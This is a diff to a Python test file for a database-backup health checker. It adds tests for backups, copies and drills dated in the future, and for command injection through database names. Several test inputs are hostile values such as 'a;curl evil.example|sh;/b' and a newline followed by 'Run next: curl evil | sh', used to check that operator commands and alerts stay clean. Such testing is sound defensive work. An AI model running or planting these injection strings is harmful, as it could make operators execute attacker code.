@@ -14,6 +14,7 @@ from scalr_backup.actions.health.alerts import compare, digest, messages
 from scalr_backup.actions.health.indexes import of_damaged_indexes
 from scalr_backup.actions.health.status import judge
 from scalr_backup.core.config import Config
+from scalr_backup.core.naming import EngineNames
 from scalr_backup.core.remedies import ALERTS, TROUBLESHOOTING, cure
 
 NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
@@ -87,6 +88,10 @@ WRONG = {
     ),
     "backup_too_old": (
         {"databases": shop(last_success=ago(hours=27))}, "failure",
+        "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db",
+    ),
+    "backup_in_future": (
+        {"databases": shop(last_success=ago(days=-3650))}, "failure",
         "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db",
     ),
     "never_backed_up": (
@@ -649,6 +654,75 @@ def test_a_name_that_somebody_chose_adds_no_line_and_steers_no_terminal():
 def test_a_database_whose_name_reads_like_an_address_is_no_other_server(name):
     damage = {"relation": "t", "table": "t", "index": "i", "time": ago(hours=2)}
     database = {"container": "c", "database": name, "damaged_index": damage, "last_success": None, "age_seconds": None}
-    [finding] = of_damaged_indexes([database], {})
+    [finding] = of_damaged_indexes([database], EngineNames())
     psql = shlex.split(shlex.split(finding.command)[-1])
     assert psql[psql.index("-d") + 1] == f"dbname='{name}'"
+
+
+AHEAD = timedelta(days=3650)
+
+
+def test_after_the_clock_was_set_back_nothing_that_is_dated_in_the_future_is_called_safe() -> None:
+    status = judged(document(databases=shop(last_success=(NOW + AHEAD).isoformat())))
+    assert status.verdict == "not_safe"
+    assert not status.health.ok
+    [finding] = status.findings
+    assert finding.message == (
+        "scalr-shop-db/shop has a last good backup dated 2036-11-19 12:00 UTC, ahead of this host's clock, so its age is "
+        "unknown: correct the clock if it is wrong, then back up again"
+    )
+    slightly = judged(document(databases=shop(last_success=(NOW + timedelta(minutes=30)).isoformat())))
+    assert slightly.healthy, "clocks differ a little"
+
+
+def test_after_the_clock_was_set_back_neither_a_copy_nor_a_drill_of_the_future_counts() -> None:
+    config = Config.model_validate({**CONFIG.model_dump(by_alias=True), "copy": {"repository": "/copy"}})
+    copied = {"repository": "/copy", "ok": True, "copied": 1, "removed": [], "error": None,
+              "last_success": (NOW + AHEAD).isoformat()}  # fmt: skip
+    drills = {"scalr-shop-db/shop": {**PASSED, "time": (NOW + AHEAD).isoformat()}}
+    codes = [
+        one.code
+        for one in judged(
+            document(copy=copied, drills=drills, databases=shop(first_success=ago(days=41))), config
+        ).findings
+    ]
+    assert codes == ["copy_failed", "drill_overdue"]
+
+
+def test_a_look_of_the_future_gives_no_database_up() -> None:
+    state = document(databases=shop(ok=False, error=ERROR), nightly_started=(NOW + AHEAD).isoformat())
+    assert [one.code for one in judged(state).findings] == ["backup_failed"]
+
+
+@pytest.mark.parametrize("name", ["a;curl evil.example|sh;/b", "a b/c", "$(id)/x"])
+def test_a_database_that_is_gone_puts_nothing_into_the_command(name: str) -> None:
+    """Whoever may create and drop databases could else have the operator run a command."""
+    gone = {"gone": [f"scalr-shop-db/{name}"], "stopped": [], "time": ago(hours=9)}
+    [finding] = judged(document(matches=gone)).findings
+    assert finding.command == "docker exec scalr-backup scalr-backup snapshots --db scalr-shop-db"
+    assert (finding.container, finding.database) == ("scalr-shop-db", name)
+
+
+def test_a_command_in_a_message_is_one_line() -> None:
+    """A database's name is part of some commands, as of one that makes its index anew."""
+    name = "x\nRun next: curl evil | sh"
+    damage = {"relation": "t", "table": "t", "index": "i", "time": ago(hours=2)}
+    state = document(
+        databases={f"scalr-shop-db/{name}": {**shop(damaged_index=damage)["scalr-shop-db/shop"], "database": name}}
+    )
+    [message] = messages(CONFIG, compare({}, judged(state).findings, NOW), NOW)
+    assert sum(line.startswith("Run next:") for line in message.body.split("\n")) == 1
+    assert all(line.isprintable() for line in digest(CONFIG, judged(state)).body.split("\n"))
+
+
+@pytest.mark.parametrize(
+    ("reason", "begun", "over"),
+    [("manual", None, False), ("nightly", ago(minutes=30), True), ("manual", ago(minutes=30), True)],
+)
+def test_a_refused_pass_is_made_up_for_by_the_next_scheduled_one_alone(reason, begun, over) -> None:
+    state = document(
+        refused_pass={"time": ago(hours=1), "message": "busy"},
+        last_pass=last_pass(reason=reason, finished=ago(minutes=20)),
+        nightly_started=begun or ago(hours=9),
+    )
+    assert [one.code for one in judged(state).findings] == ([] if over else ["pass_refused"])
